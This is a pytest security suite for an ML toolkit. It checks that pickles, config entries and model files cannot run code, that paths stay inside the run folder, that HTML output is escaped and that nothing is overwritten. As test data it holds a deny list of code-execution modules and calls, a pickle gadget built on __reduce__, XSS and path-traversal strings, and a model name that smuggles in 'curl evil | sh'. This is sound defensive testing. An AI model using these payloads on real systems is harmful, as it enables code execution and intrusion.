"""Nothing let in: no code from files, no path out of the run folder, nothing unescaped, nothing overwritten."""

from __future__ import annotations

import ast
import json
import os
import pickle
import re
import shlex
import shutil
import sys
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
import torch
from safetensors.torch import save_file

from hnkit import InputError
from hnkit.adapters import load_trained
from hnkit.backend import backend_factory
from hnkit.cli import app as cli
from hnkit.config import resolve_config
from hnkit.generate import GenerateSettings, generate_pairs
from hnkit.internal.files import atomic_write, new_run_folder, write_sealed
from hnkit.output.layouts import LAYOUTS, check_layout
from hnkit.output.page import Code, Picture, Section, Table, Text, render_html
from hnkit.prompts import read_prompts
from hnkit.scaled.compare.run import COMPARISON
from hnkit.scaled.internal.hub import pretrained
from hnkit.scaled.pipelines.embeddings import EmbeddingCache
from hnkit.scaled.rewards.weights import read_state_dict
from hnkit.training.run import train
from tests.hnkit.fake_backend import FakeBackend, Options
from tests.robustness.cases import BACKENDS, PLAN
from tests.scaled import tiny

ROOT = Path(__file__).resolve().parents[2]
SOURCES = sorted(path for package in ("hnkit", "toy", "scaled") for path in (ROOT / package).rglob("*.py"))

# --- no way to run code, anywhere in the packages ---------------------------------------------------------------

FORBIDDEN_MODULES = {
    "pickle", "cPickle", "_pickle", "dill", "cloudpickle", "joblib", "marshal", "shelve", "yaml", "runpy", "code",
    "ctypes", "subprocess", "imp", "xmlrpc", "telnetlib", "socket", "urllib", "requests", "http",
}  # fmt: skip
FORBIDDEN_CALLS = {
    "eval", "exec", "compile", "__import__", "os.system", "os.popen", "os.execv", "os.spawnv", "torch.save",
    "torch.hub.load", "torch.jit.load", "torch.package.PackageImporter", "mktemp",
}  # fmt: skip
ALLOWED = {
    ("scaled/rewards/weights.py", "pickle"): {"UnpicklingError"},  # the name of an error, no loading
    ("hnkit/__init__.py", "import_module"): None,
    ("hnkit/rewards.py", "import_module"): None,
    ("hnkit/kl/methods/__init__.py", "import_module"): None,  # of its own modules, as pkgutil lists them
    ("hnkit/training/signals.py", "socket"): {"socket", "socketpair"},  # a process's line to itself
    ("hnkit/internal/stops.py", "socket"): {"socket", "socketpair"},
}
"""Where a forbidden thing may stand: the module with the attributes it may be used for, or a call."""


def dotted(node: ast.AST) -> str:
    """`a.b.c` of a chain of names, or nothing."""
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return f"{dotted(node.value) or '?'}.{node.attr}"
    return ""


def violations(source: str, name: str) -> Iterator[str]:
    """What in a module could run code that somebody else wrote."""
    tree = ast.parse(source)
    for node in ast.walk(tree):
        modules = []
        if isinstance(node, ast.Import):
            modules = [alias.name for alias in node.names]
        elif isinstance(node, ast.ImportFrom):
            harmless = node.module == "pickle" and {alias.name for alias in node.names} == {"UnpicklingError"}
            modules = [] if harmless else [node.module or ""]
        for module in modules:
            if module.split(".")[0] in FORBIDDEN_MODULES and (name, module) not in ALLOWED:
                yield f"imports {module}"
        if isinstance(node, ast.Attribute) and (name, dotted(node.value)) in ALLOWED:
            used = ALLOWED[name, dotted(node.value)]
            if used is not None and node.attr not in used:
                yield f"uses {dotted(node)}"
        if not isinstance(node, ast.Call):
            continue
        called = dotted(node.func)
        keywords = {keyword.arg: keyword.value for keyword in node.keywords}
        if called in FORBIDDEN_CALLS:
            yield f"calls {called}"
        if called.endswith("import_module") and (name, "import_module") not in ALLOWED:
            yield f"calls {called}"
        if called == "torch.load":
            safe = keywords.get("weights_only")
            if not (isinstance(safe, ast.Constant) and safe.value is True):
                yield "torch.load without weights_only=True"
        if called in {"np.load", "numpy.load"} and "allow_pickle" in keywords:
            yield f"{called} with allow_pickle"
        if "trust_remote_code" in keywords or "custom_pipeline" in keywords:
            yield f"{called} takes code from a model's repository"
        if "shell" in keywords:
            yield f"{called} through a shell"


@pytest.mark.parametrize("path", SOURCES, ids=lambda path: path.relative_to(ROOT).as_posix())
def test_no_module_can_run_foreign_code(path):
    assert list(violations(path.read_text(encoding="utf-8"), path.relative_to(ROOT).as_posix())) == []


@pytest.mark.parametrize(
    "line",
    [
        "import pickle",
        "from pickle import loads",
        "import yaml",
        "from subprocess import run",
        "eval('1')",
        "exec(text)",
        "__import__('os')",
        "os.system('ls')",
        "torch.load(path)",
        "torch.load(path, weights_only=False)",
        "torch.load(path, weights_only=flag)",
        "np.load(path, allow_pickle=True)",
        "AutoModel.from_pretrained(name, trust_remote_code=True)",
        "DiffusionPipeline.from_pretrained(name, custom_pipeline=name)",
        "importlib.import_module(config['module'])",
        "run(command, shell=True)",
        "torch.save(model, path)",
        "torch.hub.load(name, 'model')",
    ],
)
def test_the_scan_finds_what_it_looks_for(line):
    assert list(violations(line, "hnkit/kl.py"))


def test_the_scan_looks_at_all_packages_and_knows_its_exceptions():
    assert len(SOURCES) > 60
    assert list(violations("import pickle\npickle.loads(data)", "scaled/rewards/weights.py")) == ["uses pickle.loads"]


def test_import_paths_come_from_two_flags_alone():
    """`import_object` is called with the value of --map and with the name of a reward that came through --reward."""
    found = set()
    for path in SOURCES:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and dotted(node.func) == "import_object":
                flag = node.args[1]
                assert isinstance(flag, ast.Constant)
                found.add((path.name, flag.value))
    assert found == {("verify_bound.py", "--map"), ("rewards.py", "--reward")}


# --- nothing waits for a pipe or reads a file without end --------------------------------------------------------

READS = {"read_text", "read_bytes", "open", "Image.open", "load_file", "safe_open", "copyfile", "copytree", "copy2"}
"""How a file may be opened; `hnkit.internal.files` has the ways that refuse what is no regular file."""
MAY_READ = {
    "hnkit/internal/files.py": "os.open of open_plain",
    "hnkit/internal/folders.py": "os.open of open_to_append",
    "hnkit/internal/streams.py": "the null device",
    "hnkit/internal/versions.py": "the code itself",
    "hnkit/cli/app.py": "the null device",
    "hnkit/cli/verify_bound.py": "the source of the user's own map",
    "hnkit/config/sources.py": "a configuration that the user names, which may be a pipe",
    "hnkit/prompts.py": "prompts that the user names, which may be a pipe",
    "hnkit/frontier/table.py": "rewards that the user names, which may be a pipe",
    "hnkit/training/checkpoint.py": "tensors after their digest; the flush of what was just written",
    "hnkit/training/publish.py": "files that are regular ones",
    "hnkit/output/images.py": "a buffer",
    "hnkit/output/layouts.py": "images of its own run",
    "hnkit/generate.py": "a buffer",
    "scaled/pipelines/embeddings.py": "the user's own cache",
    "scaled/pipelines/identity.py": "files that are regular ones",
    "scaled/pipelines/parts.py": "weights that the user names",
    "scaled/rewards/weights.py": "weights that the user names",
    "scaled/digits/judge.py": "the bundled model",
    "scaled/digits/rewards.py": "the bundled model",
}
"""Where a file is opened otherwise, and what it is."""


def reads(source: str) -> Iterator[str]:
    """What in a module opens a file without asking what it is."""
    for node in ast.walk(ast.parse(source)):
        called = dotted(node.func) if isinstance(node, ast.Call) else ""
        if called in READS or called.rpartition(".")[2] in READS:
            yield called


def test_files_that_somebody_sent_are_opened_in_one_way():
    found = {
        name
        for path in SOURCES
        if "digits/train" not in (name := path.relative_to(ROOT).as_posix()) and list(reads(path.read_text()))
    }
    assert found == set(MAY_READ)


@pytest.mark.parametrize("line", ["open(name)", "path.read_text()", "(a / b).read_bytes()", "path.open('rb')"])
def test_the_scan_for_reads_finds_them(line):
    assert list(reads(line))


ADAPTER_FILES = {
    ("toy", "weights"): "adapter.safetensors",
    ("toy", "configuration"): "adapter.json",
    ("digits", "weights"): "adapter_model.safetensors",
    ("digits", "configuration"): "adapter_config.json",
}


@pytest.mark.parametrize(("backend", "name"), ADAPTER_FILES)
@pytest.mark.parametrize("what", ["a pipe", "a sparse file", "a sparse file with a header"])
def test_no_file_of_an_adapter_hangs_or_fills_the_memory(what, backend, name, tmp_path):
    factory = backend_factory(backend)
    folder = Path(shutil.copytree(adapter_of(backend, tmp_path), tmp_path / "sent"))
    path = folder / ADAPTER_FILES[backend, name]
    if what == "a pipe":
        path.unlink()
        os.mkfifo(path)
    else:
        header = b"" if what == "a sparse file" else claimed(300 * 10**9)
        with path.open("wb") as file:
            file.write(header)
            file.truncate(len(header) + 300 * 10**9)
    with pytest.raises(InputError, match=re.escape(str(path))):
        factory.load(factory.options()).load_adapter(folder)


def claimed(size: int) -> bytes:
    """A header of safetensors for one tensor of so many bytes."""
    text = json.dumps({"w": {"dtype": "U8", "shape": [size], "data_offsets": [0, size]}}).encode()
    return len(text).to_bytes(8, "little") + text


def adapter_of(backend: str, tmp_path: Path) -> Path:
    factory = backend_factory(backend)
    if backend == "digits":
        return Path(factory.bundled_adapter())
    factory.load(factory.options()).save_adapter(tmp_path / "mine")
    return tmp_path / "mine"


# --- configuration, presets, run folders and plans name no code -------------------------------------------------


@pytest.fixture
def evil(tmp_path, monkeypatch) -> Path:
    """A working directory with a module that leaves a trace when it is imported; the trace's path."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.syspath_prepend(str(tmp_path))
    trace = tmp_path / "trace"
    (tmp_path / "evil.py").write_text(
        f"from pathlib import Path\nPath({str(trace)!r}).mkdir()\ndef r(images, prompts): return images[:, 0]\nF = r\n"
    )
    yield trace
    sys.modules.pop("evil", None)


def refused(arguments: list[str], capsys, monkeypatch) -> str:
    monkeypatch.setattr(sys, "argv", ["hnkit", *arguments])
    with pytest.raises(SystemExit) as ended:
        cli.main()
    captured = capsys.readouterr()
    assert ended.value.code == 2, captured.out
    assert "internal error" not in captured.err
    return captured.err


CONFIGURATIONS = [
    '[rewards]\n"evil:r" = 1.0\n',
    '[rewards]\n"evil:r" = { weight = 1.0 }\n',
    '[heldout]\n"evil:r" = 1.0\n',
    '[rewards]\nredness = { weight = 1.0, function = "evil:r" }\n',
    "[rewards]\nevil = 1.0\n",
    '[backend]\nname = "evil:F"\n',
    '[backend]\nproblem = "evil:F"\n',
    '[backend]\nhypernetwork = "evil:F"\n',
    '[train]\noptimizer = "evil:F"\n',
    '[train]\nprompts = "evil:F"\n',
    '[train]\ntrackers = ["evil:F"]\n',
    '[train]\nmap = "evil:F"\n',
]


@pytest.mark.parametrize("text", CONFIGURATIONS)
def test_a_configuration_cannot_name_code(text, evil, capsys, monkeypatch):
    Path("c.toml").write_text(text)
    refused(["train", "--backend", "toy", "--set", "train.steps=1", "--config", "c.toml"], capsys, monkeypatch)
    assert not evil.exists()


@pytest.mark.parametrize("override", ["rewards.evil:r=1", "heldout.evil:r=1", "rewards.evil:r.weight=1",
                                      "backend.name=evil:F", "backend.problem=evil:F"])  # fmt: skip
def test_a_set_flag_cannot_name_code(override, evil, capsys, monkeypatch):
    refused(["train", "--backend", "toy", "--set", override], capsys, monkeypatch)
    assert not evil.exists()


def test_the_users_own_flag_can(evil):
    """The trace is left when code is meant to run, so the tests above can fail."""
    overrides = ["train.steps=1", "train.batch=2", "train.measure_samples=2"]
    train(resolve_config(backend="toy", rewards=["evil:r=1"], overrides=overrides), out=Path("run"))
    assert evil.exists()


@pytest.mark.parametrize("table", ["rewards", "heldout"])
@pytest.mark.parametrize("command", ["train --resume run", "verify-bound --backend toy --adapter run",
                                     "generate --backend toy --prompt a --adapter run"])  # fmt: skip
def test_a_run_folder_cannot_name_code(command, table, evil, capsys, monkeypatch):
    """Training says so; what uses the adapter needs no rewards, so it leaves them alone (and finds no adapter here)."""
    (new_run_folder(Path("run"), "train") / "adapter").mkdir()
    Path("run/config.toml").write_text(f'[backend]\nname = "toy"\n[{table}]\n"evil:r" = 1.0\n')
    said = "code is never taken from a file" in refused(command.split(), capsys, monkeypatch)
    assert said == command.startswith("train")
    assert not evil.exists()


def test_a_plan_cannot_name_code(evil, capsys, monkeypatch):
    Path("run").mkdir()
    for override in ("rewards.evil:r=1", "backend.name=evil:F"):
        write_sealed(Path("run/plan.json"), PLAN | {"overrides": [override]})
        message = refused(["compare", "--backend", "digits", "--resume", "run"], capsys, monkeypatch)
        assert "damaged" not in message
    assert not evil.exists()


def test_presets_name_no_code():
    for name in BACKENDS:
        for preset in backend_factory(name).presets.values():
            assert all(key.split(".")[0] in {"train", "backend", "rewards", "heldout"} for key in preset)
            assert not any(":" in key or ":" in str(value) for key, value in preset.items())


# --- pickles ----------------------------------------------------------------------------------------------------


class Bomb:
    """Unpickling it makes a folder."""

    def __init__(self, trace: Path) -> None:
        self.trace = trace

    def __reduce__(self):
        return os.mkdir, (str(self.trace),)


@pytest.fixture
def bomb(tmp_path) -> tuple[bytes, Path]:
    trace = tmp_path / "exploded"
    return pickle.dumps({"weight": Bomb(trace)}), trace


def test_the_bomb_works(bomb):
    pickle.loads(bomb[0])
    assert bomb[1].exists()


@pytest.mark.parametrize("zipped", [False, True])
@pytest.mark.parametrize("suffix", [".pt", ".bin", ".safetensors"])
def test_reward_weights_are_not_unpickled(suffix, zipped, bomb, tmp_path, monkeypatch):
    monkeypatch.setenv("HNKIT_CACHE", str(tmp_path / "cache"))
    path = tmp_path / f"reward{suffix}"
    path.write_bytes(bomb[0])
    if zipped:
        torch.save({"state_dict": Bomb(bomb[1])}, path)
    with pytest.raises(InputError):
        read_state_dict(path, what="reward")
    assert not bomb[1].exists()


@pytest.fixture(scope="module")
def model(tmp_path_factory) -> Path:
    return tiny.build("sana", tmp_path_factory.mktemp("model") / "sana")


@pytest.mark.parametrize("part", ["transformer", "vae", "text_encoder"])
def test_models_are_not_unpickled(part, bomb, model, tmp_path):
    folder = Path(shutil.copytree(model, tmp_path / "model"))
    (weights,) = (folder / part).glob("*.safetensors")
    weights.unlink()
    name = "pytorch_model.bin" if part == "text_encoder" else "diffusion_pytorch_model.bin"
    (folder / part / name).write_bytes(bomb[0])
    factory = backend_factory("sana")
    with pytest.raises(InputError, match="does not load"):
        factory.load(factory.options(**tiny.options("sana", folder)))
    assert not bomb[1].exists()


def test_reward_models_are_not_unpickled(bomb, tmp_path):
    from transformers import CLIPConfig, CLIPModel

    CLIPConfig(
        text_config={"vocab_size": 9, "hidden_size": 8, "intermediate_size": 8, "num_hidden_layers": 1,
                     "num_attention_heads": 1},
        vision_config={"hidden_size": 8, "intermediate_size": 8, "num_hidden_layers": 1, "num_attention_heads": 1,
                       "image_size": 8, "patch_size": 4},
    ).save_pretrained(tmp_path)  # fmt: skip
    (tmp_path / "pytorch_model.bin").write_bytes(bomb[0])
    with pytest.raises(InputError, match="readable model"):
        pretrained(CLIPModel.from_pretrained, str(tmp_path), what="reward")
    assert not bomb[1].exists()


def test_pickled_adapters_are_not_read(bomb, model, tmp_path):
    factory = backend_factory("sana")
    backend = factory.load(factory.options(**tiny.options("sana", model)))
    backend.save_adapter(tmp_path / "a")
    weights = tmp_path / "a" / "adapter_model.safetensors"
    weights.write_bytes(bomb[0])
    with pytest.raises(InputError):
        backend.load_adapter(tmp_path / "a")
    weights.rename(weights.with_suffix(".bin"))
    with pytest.raises(InputError, match="checksum does not match"):
        backend.load_adapter(tmp_path / "a")
    config = tmp_path / "a" / "adapter_config.json"
    document = json.loads(config.read_text())
    del document["hnkit"]  # as the paper's trainer writes it: nothing but the pickle stands for the weights
    config.write_text(json.dumps(document))
    with pytest.raises(InputError, match="holds more than tensors"):
        backend.load_adapter(tmp_path / "a")
    assert not bomb[1].exists()


@pytest.mark.parametrize("component", ["transformer", "text_encoder", "scheduler", "_class_name"])
def test_a_model_cannot_name_code(component, evil, model, tmp_path):
    """A model's index may name classes of the libraries alone, also where a module of that name could be imported."""
    folder = Path(shutil.copytree(model, tmp_path / "model"))
    shutil.copy("evil.py", folder)
    index = json.loads((folder / "model_index.json").read_text())
    index[component] = "evil" if component == "_class_name" else ["evil", "F"]
    (folder / "model_index.json").write_text(json.dumps(index))
    factory = backend_factory("sana")
    with pytest.raises(InputError):
        factory.load(factory.options(**tiny.options("sana", folder)))
    assert not evil.exists()


# --- paths ------------------------------------------------------------------------------------------------------

NASTY = [
    "../../escape", "/etc/passwd", "..", ".", "CON", "nul.txt", "a/b\\c", "~root", "$HOME `id` $(id)", "-rf *", "a;b|c",
    "<script>alert(1)</script>", "\"'><img src=x onerror=alert(1)>", "x" * 5000, "mañana ☃ 🦊", "%2e%2e%2f",
    "{0.__class__}", "a three\r\nSet-Cookie: x", "$\\frac{$", "\u202egnp.exe", "=cmd|' /C calc'!A0",
]  # fmt: skip


def tree(folder: Path) -> list[str]:
    return sorted(path.relative_to(folder).as_posix() for path in folder.rglob("*"))


class Tags(HTMLParser):
    """The elements and attributes of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: set[str] = set()
        self.attributes: set[str] = set()
        self.text: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data):
        self.text.append(data)


def require_harmless(page: str) -> None:
    """No script, no handler, nothing fetched."""
    tags = Tags(page)
    assert not tags.elements & {"script", "iframe", "object", "embed", "form", "base", "link", "svg"}
    assert not [name for name in tags.attributes if name.startswith("on")]
    sources = re.findall(r'(?:src|href)="([^"]*)"', page)
    assert all(source.startswith(("data:image/png;base64,", "#s")) for source in sources)


@pytest.mark.filterwarnings("ignore:Glyph")
def test_prompts_name_no_files_and_are_escaped(tmp_path):
    folder = tmp_path / "outer" / "run"
    folder.mkdir(parents=True)
    backend = FakeBackend(Options())
    generate_pairs(backend, NASTY, GenerateSettings(count=1), folder)
    assert tree(tmp_path) == sorted(["outer", "outer/run", *(f"outer/run/{name}" for name in tree(folder))])
    images, seals = r"(base|steered)-\d\d\.png", r"prompt\.txt|images\.json"
    shape = re.compile(rf"[a-z0-9-]+(\.(png|html|json))?|prompt-\d{{3}}/({images}|{seals})")
    assert [name for name in tree(folder) if not shape.fullmatch(name)] == []
    assert [(folder / f"prompt-{k:03d}/prompt.txt").read_bytes() for k in range(len(NASTY))] == [
        f"{prompt}\n".encode() for prompt in NASTY
    ]
    page = (folder / "report.html").read_text(encoding="utf-8")
    require_harmless(page)
    shown = "".join(Tags(page).text)
    assert all(prompt in shown for prompt in NASTY if "\r" not in prompt)


@pytest.mark.parametrize("layout", LAYOUTS)
@pytest.mark.filterwarnings("ignore:Glyph")
def test_layouts_stay_inside_the_run_folder(layout, tmp_path):
    folder = tmp_path / "outer" / "run"
    folder.mkdir(parents=True)
    records = {
        prompt: {"prompt": prompt, "item_id": f"item-{number}", "tag": prompt, "include": []}
        for number, prompt in enumerate([*NASTY, "a\0b", "a\nb"])
    }
    count = LAYOUTS[layout].count or 4
    prompts = []
    for prompt in records:
        try:
            check_layout(layout, [prompt], count, records)
        except InputError:
            continue
        prompts.append(prompt)
    assert len(prompts) > 5
    settings = GenerateSettings(count=count, layout=layout)
    generate_pairs(FakeBackend(Options()), prompts, settings, folder, records=records)
    assert all(name == "outer" or name.startswith("outer/run") for name in tree(tmp_path))
    images = [path for path in folder.glob(f"{layout}-steered/**/*.png") if path.is_file()]
    assert len(images) == len(prompts) * {"dpg-bench": 1, "geneval2": 0}.get(layout, count)  # geneval2: a list of paths


@pytest.mark.parametrize("item", [name for name in NASTY if "/" in name or "." in name or "\\" in name])
def test_item_names_never_lead_elsewhere(item):
    with pytest.raises(InputError, match="item_id"):
        check_layout("dpg-bench", ["a"], 4, {"a": {"item_id": item}})


def test_two_items_never_share_a_file(tmp_path):
    records = {prompt: {"item_id": item} for prompt, item in (("one", "x1"), ("two", "X1"))}
    with pytest.raises(InputError, match="item_id"):
        generate_pairs(
            FakeBackend(Options()), list(records), GenerateSettings(count=4, layout="dpg-bench"), tmp_path,
            records=records,
        )  # fmt: skip


def test_pages_escape_everything():
    nasty = "</style></title><script>alert(1)</script>\"'><img src=x onerror=alert(1)>&amp;"
    blocks = (
        Text(nasty),
        Code(nasty, nasty),
        Picture(b"png", nasty),
        Table((nasty, "b"), ((nasty, f"1 ± {nasty}"),), nasty, {0: nasty}),
    )
    page = render_html(nasty, (Section(nasty, blocks), Section(nasty, (Code(nasty),))), lead=nasty)
    require_harmless(page)
    assert "".join(Tags(page).text).count(nasty) >= 10


def test_one_module_alone_writes_html():
    """Pages are made of blocks that are escaped in one place; no other module holds markup."""
    for path in SOURCES:
        if path.relative_to(ROOT).as_posix() != "hnkit/output/page.py":
            constants = [node.value for node in ast.walk(ast.parse(path.read_text())) if isinstance(node, ast.Constant)]
            tag = re.compile(r"</?(div|p|img|table|td|a|h\d|script)[ >]")
            assert [text for text in constants if isinstance(text, str) and tag.search(text)] == [], path


def test_names_of_rewards_and_maps_are_escaped(tmp_path, monkeypatch):
    """From a training run and a verification, end to end."""
    from hnkit.checks.report import Report
    from hnkit.checks.settings import VerifySettings
    from hnkit.checks.verify_map import verify_map

    name = "<script>alert(1)</script>"
    report: Report = verify_map(torch.sin, (2,), VerifySettings(samples=2), name=name)
    (tmp_path / "verify").mkdir()
    report.write(tmp_path / "verify")
    page = (tmp_path / "verify" / "report.html").read_text(encoding="utf-8")
    require_harmless(page)
    assert name in "".join(Tags(page).text)
    monkeypatch.setattr("hnkit.toy.backend.ToyReward.name", name)
    overrides = ["train.steps=1", "train.batch=2", "train.measure_samples=2"]
    train(resolve_config(backend="toy", overrides=overrides), out=tmp_path / "train")
    require_harmless((tmp_path / "train" / "report.html").read_text(encoding="utf-8"))


def test_adapter_configurations_name_no_paths_that_are_used(model, tmp_path, monkeypatch):
    """An adapter that says it belongs to ../../x is measured against the model that was loaded, and reads nothing."""
    monkeypatch.chdir(tmp_path)
    factory = backend_factory("sana")
    backend = factory.load(factory.options(**tiny.options("sana", model)))
    backend.save_adapter(tmp_path / "a")
    config = json.loads((tmp_path / "a/adapter_config.json").read_text())
    config.pop("hnkit")
    config |= {
        "base_model_name_or_path": "../../x", "auto_mapping": {"base_model_class": "evil.F", "parent_library": "evil"},
        "target_modules": ["../../x"], "revision": "../../x", "layers_pattern": "(a+)+$",
    }  # fmt: skip
    (tmp_path / "a/adapter_config.json").write_text(json.dumps(config))
    before = tree(tmp_path)
    opened: list[str] = []
    sys.addaudithook(lambda event, found: opened.append(str(found[0])) if event == "open" else None)
    backend.load_adapter(tmp_path / "a")
    names = {Path(name).name for name in opened if str(tmp_path) in name}
    assert names == {"adapter_config.json", "adapter_model.safetensors"}
    assert tree(tmp_path) == before


def test_embeddings_are_cached_under_hashes(tmp_path):
    folder = tmp_path / "cache"
    cache = EmbeddingCache(lambda prompts: {"e": torch.ones(len(prompts), 2)}, folder)
    cache.store(NASTY)
    assert all(re.fullmatch(r"cache(/[0-9a-f]{24}\.safetensors)?", name) for name in tree(tmp_path))
    again = EmbeddingCache(lambda prompts: {"e": torch.zeros(len(prompts), 2)}, folder)
    assert bool((again.rows(NASTY)["e"] == 1).all())


def test_prompt_files_are_only_read(tmp_path):
    path = tmp_path / "prompts.txt"
    path.write_text("\n".join(prompt for prompt in NASTY if "\r" not in prompt))
    before = path.stat().st_mtime_ns
    assert len(read_prompts(path)) == len(NASTY) - 1
    assert path.stat().st_mtime_ns == before
    assert tree(tmp_path) == ["prompts.txt"]


# --- nothing is overwritten -------------------------------------------------------------------------------------


@pytest.fixture
def occupied(tmp_path) -> Path:
    (tmp_path / "folder").mkdir()
    (tmp_path / "folder" / "precious").write_text("kept")
    (tmp_path / "file").write_text("kept")
    (tmp_path / "empty").mkdir()
    (tmp_path / "link").symlink_to("folder")
    (tmp_path / "link-to-empty").symlink_to("empty")
    (tmp_path / "dangling").symlink_to("nowhere")
    (tmp_path / "loop").symlink_to("loop")
    return tmp_path


TAKEN = ["folder", "file", "empty", "link", "link-to-empty", "dangling", "loop", "file/below", "loop/below"]


@pytest.mark.parametrize("name", TAKEN)
def test_run_folders_are_new(name, occupied):
    before = tree(occupied)
    with pytest.raises(InputError, match="--out"):
        new_run_folder(occupied / name, "train")
    assert tree(occupied) == before
    assert (occupied / "folder" / "precious").read_text() == "kept"


@pytest.mark.parametrize("name", TAKEN)
@pytest.mark.parametrize(
    "command",
    [
        "verify-bound --toy extremal --samples 2",
        "train --backend toy --steps 1",
        "generate --backend digits --prompt a",
        "compare --backend digits --quick",
    ],
)
def test_commands_never_write_over_what_is_there(command, name, occupied, capsys, monkeypatch):
    monkeypatch.chdir(occupied)
    before = tree(occupied)
    assert name in refused([*command.split(), "--out", name], capsys, monkeypatch)
    assert tree(occupied) == before


def test_adapters_are_never_written_over(occupied, model):
    factory = backend_factory("sana")
    for backend in (backend_factory("toy").load(backend_factory("toy").options()),
                    factory.load(factory.options(**tiny.options("sana", model)))):  # fmt: skip
        for name in ("folder", "link"):
            with pytest.raises(InputError, match="not empty"):
                backend.save_adapter(occupied / name)
    assert tree(occupied / "folder") == ["precious"]


def test_writing_replaces_a_link_and_not_what_it_points_to(tmp_path):
    (tmp_path / "target").write_text("kept")
    (tmp_path / "report.json").symlink_to("target")
    atomic_write(tmp_path / "report.json", "new")
    assert (tmp_path / "target").read_text() == "kept"
    assert not (tmp_path / "report.json").is_symlink()
    assert (tmp_path / "report.json").read_text() == "new"


def test_a_link_above_the_run_folder_is_followed_once(tmp_path):
    """A linked parent is the user's own choice (scratch disks); the run itself is a true folder there."""
    (tmp_path / "scratch").mkdir()
    (tmp_path / "runs").symlink_to("scratch")
    folder = new_run_folder(tmp_path / "runs" / "new", "train")
    assert not folder.is_symlink()
    assert tree(tmp_path / "scratch") == ["new", "new/.hnkit-run"]


def test_adapters_are_loaded_from_where_they_are_said_to_be(tmp_path):
    """A run folder whose adapter is a link out of it is followed, read-only; a missing one is an error."""
    with pytest.raises(InputError, match="not a folder"):
        load_trained("toy", tmp_path / "absent")
    save_file({"x": torch.zeros(1)}, tmp_path / "adapter.safetensors")
    with pytest.raises(InputError):
        load_trained("toy", tmp_path)
    assert COMPARISON.accepts(backend_factory("digits"))


@pytest.mark.parametrize("name", ["nobody/model; curl evil | sh", "$(reboot)/x", "a'b/`c`", "plain/name"])
def test_a_line_to_paste_holds_the_name_as_one_word(name):
    """The data set that a configuration names is printed in a command, a model only where the hub could have it."""
    from hnkit.internal.downloads import not_here

    for data_set, words in ((True, ["hf", "download", "--repo-type", "dataset"]), (False, ["hf", "download"])):
        line = str(not_here("this", name, OSError("no network"), local_files_only=True, data_set=data_set))
        command = line.partition(": run ")[2].partition(" where there is a network")[0]
        assert shlex.split(command) == ([*words, name] if data_set or name == "plain/name" else [])
